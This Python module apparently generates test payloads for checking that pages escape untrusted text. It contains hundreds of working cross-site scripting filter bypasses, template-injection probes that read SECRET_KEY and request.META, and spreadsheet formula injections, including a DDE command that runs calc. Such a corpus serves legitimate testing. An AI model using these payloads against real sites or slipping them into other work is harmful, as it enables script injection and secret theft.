"""Texts that become script where a page forgets to escape them, one family per way in."""

from collections.abc import Callable, Iterator, Sequence
from itertools import product
from typing import TypeVar

T = TypeVar("T")

# What a template engine would make of the product below; no page shows this number by itself.
FACTORS = (1_337, 7_331)
PRODUCT = str(FACTORS[0] * FACTORS[1])

CLOSERS = (
    "", '">', "'>", "-->", "]]>", "*/", "</title>", "</textarea>", "</style>", "</noscript>",
    "</template>", "</select>", "</script>", "</svg>", "</pre>", "</option>",
)  # fmt: skip
SCRIPTS = (
    "<script>{call}</script>", "<ScRiPt>{call}</sCrIpT>", "<script/x>{call}</script>",
    "<script\n>{call}</script\n>", "<<script>{call}//<</script>",
    "<script type=module>{call}</script>", "<script src=data:text/javascript,{call}></script>",
    "<scr<script>ipt>{call}</script>", "<script>//\u2028{call}</script>",
    "<!--><script>{call}</script>", "<x><script>{call}</script>",
)  # fmt: skip
# Elements whose handler runs by itself, with the place of the handler.
HANDLERS = (
    "<img{s}src=x{s}onerror={q}{call}{q}>", "<svg{s}onload={q}{call}{q}>",
    "<iframe{s}onload={q}{call}{q}>", "<input{s}autofocus{s}onfocus={q}{call}{q}>",
    "<details{s}open{s}ontoggle={q}{call}{q}>", "<video><source{s}onerror={q}{call}{q}>",
    "<body{s}onload={q}{call}{q}>", "<style{s}onload={q}{call}{q}></style>",
    "<object{s}data=x:x{s}onerror={q}{call}{q}>",
)  # fmt: skip
# Spaces and quotation marks of attributes that browsers take and filters forget.
DRESSES = ((" ", ""), ("\n", '"'), ("/", "'"), ("\f", ""), ("\t", "'"))
BREAKS = ('"', "'", "`", '" ', "' ", '"/>', "'/>", "&quot;", '\\"', "x")
TAILS = (
    " onmouseover={call} x=", " autofocus onfocus={call} tabindex=1 x=",
    "><img src=x onerror={call}>",
)  # fmt: skip
ADDRESSES = (
    "javascript:{call}", "JaVaScRiPt:{call}", "java\tscript:{call}", "\x01javascript:{call}",
    "javascript&colon;{call}", "&#106;avascript:{call}", "javascript://%0a{call}",
    "data:text/html,<script>{call}</script>", "vbscript:{call}",
)  # fmt: skip
CARRIERS = (
    "{url}", '<a href="{url}" autofocus>x</a>', '<iframe src="{url}"></iframe>',
    '<meta http-equiv=refresh content="0;url={url}">', '<form action="{url}"><button autofocus>x',
    '<object data="{url}"></object>', "[x]({url})",
)  # fmt: skip
FOREIGN = (
    "<svg><script>{call}</script></svg>", "<svg><script href=data:,{call} />",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set onbegin={call} attributeName=x>",
    "<svg><a xlink:href=javascript:{call}><text y=9>x</text></a>",
    "<svg><foreignObject><img src=x onerror={call}></foreignObject>",
    "<svg><style><img src=x onerror={call}></style>",
    "<svg></p><style><a id='</style><img src=x onerror={call}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<math><annotation-xml encoding=text/html><script>{call}</script>",
    "<math href=javascript:{call}>x",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={call}/>#x'/>", "<marquee onstart={call}>",
)  # fmt: skip
TEMPLATES = (
    "{{{{{factors}}}}}", "{{{{constructor.constructor('{call}')()}}}}", "${{{factors}}}",
    "${{{call}}}", "#{{{factors}}}", "<%= {factors} %>", "{{% debug %}}",
    "{{% load static %}}{{{{ settings.SECRET_KEY }}}}", "{{{{ request.META }}}}", "[[{factors}]]",
    "*{{{factors}}}", "@({factors})", "{{{{= {factors} }}}}", "<b x-data x-init={call}>",
    "<b x-data @click={call} x-text={factors}>", "<b x-html=`{call}`>",
    "<b hx-get=/ hx-trigger=load hx-on:htmx:before-request={call}>",
    "<b hx-vals='js:{{a:{call}}}' hx-get=/>", "<b data-hx-on--load={call}>",
    "<b hx-on--load={call}>", "<b :class={call}>", "<b v-html={call}>", "x' x-init='{call}",
    'x" x-init="{call}', 'x" @mouseover="{call}',
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;{call}&lt;/script&gt;", "&#60;script&#62;{call}&#60;/script&#62;",
    "&#x3c;img src=x onerror={call}&#x3e;", "&ltimg src=x onerror={call}&gt",
    "&amp;lt;script&amp;gt;{call}", "%3Cscript%3E{call}%3C/script%3E", "%253Cscript%253E{call}",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e", "\\x3cscript\\x3e{call}",
    "\\74script\\76{call}", "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "&lt;img src=x onerror=&#34;{call}&#34;&gt;", "&NewLine;<img src=x onerror={call}>",
)  # fmt: skip
STRINGS = (
    '";{call};//', "';{call};//", '\\";{call};//', "\\';{call};//", "`;{call};//",
    "${{{call}}}`;{call}", '"-{call}-"', "'-{call}-'", "'+{call}+'", '"}}];{call};//',
    "'}}]);{call};//", "*/{call}/*", "\u2028{call}//", "\\\u2029{call}//",
    '"}}</script><script>{call}</script>', "<!--<script>{call}//", "]]>';{call}//", "'));{call};//",
    "\n{call}//", "\r{call}\r//",
)  # fmt: skip
UNUSUAL = (
    "<img\x0csrc=x\x0conerror={call}>", "<img\u00a0src=x\u00a0onerror={call}>",
    "<\u017fcript>{call}</\u017fcript>", "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "\u202e<script>{call}</script>", "\ufeff<svg onload={call}>", "<\u200bscript>{call}</script>",
    "<img src=x onerror\n=\n{call}>", "<img src=x on\u200berror={call}>",
    "\U0001f600<svg/onload={call}>", "<\u0131mg src=x onerror={call}>", "<img/src/onerror={call}>",
    "<img src=x:x onerror\x0b={call}>", "\x1b[31m<svg onload={call}>",
    "<svg onload={call}//" + "\u0301" * 9, "<a\x0bhref=javascript:{call}>x</a>",
    "{pad}<svg onload={call}>",
)  # fmt: skip


def texts() -> list[str]:
    """Every payload, each calling `ran` with its own place in the list, or `alert`."""
    made: list[str] = []
    for shape in _shapes():
        number = len(made)
        call = f"alert({number})" if number % 5 == 4 else f"ran({number})"
        made.append(shape(call))
    return made


def _shapes() -> Iterator[Callable[[str], str]]:
    for closer in CLOSERS:
        yield _of(closer.replace("{", "{{") + SCRIPTS[0])
    for shape in SCRIPTS[1:]:
        yield _of(shape)
    for shape, (space, quote) in product(HANDLERS, DRESSES):
        yield _of(shape, s=space, q=quote)
    for start, tail in product(BREAKS, TAILS):
        yield _of(start + tail + start.strip("/> "))
    for address, carrier in product(ADDRESSES, CARRIERS):
        yield _of(carrier.replace("{url}", address))
    for family in (FOREIGN, TEMPLATES, ENTITIES, STRINGS, UNUSUAL):
        for shape in family:
            yield _of(shape)


def _of(shape: str, **told: str) -> Callable[[str], str]:
    factors = f"{FACTORS[0]}*{FACTORS[1]}"
    return lambda call: shape.format(call=call, factors=factors, pad="A" * 70, **told)


def spread(items: Sequence[T], number: int) -> list[T]:
    """`number` of them, evenly spread; all of them for 0."""
    if not number or number >= len(items):
        return list(items)
    return [items[place * len(items) // number] for place in range(number)]


def formulas() -> list[str]:
    """Names that a spreadsheet would run, or run after it has taken their separator for its own."""
    bodies = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example","y")', "SUM(1;2)", "A1")
    starts = (
        "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "\t@", "\u00a0=", "\uff1d", "\uff0b",
        "\uff0d", "\uff20", "'=", '"=', "=-+@", "\ufeff=", "\u200b=", "%0A=", "x;=", "x\t=", "x|=",
        "x\n=", "x\r\n=", 'x";"=', "x,=", 'x","=', ";=", '";=', "x;@", "x; +", "x;\uff1d", "x\t\t-",
    )  # fmt: skip
    return [start + body for start, body in product(starts, bodies)]
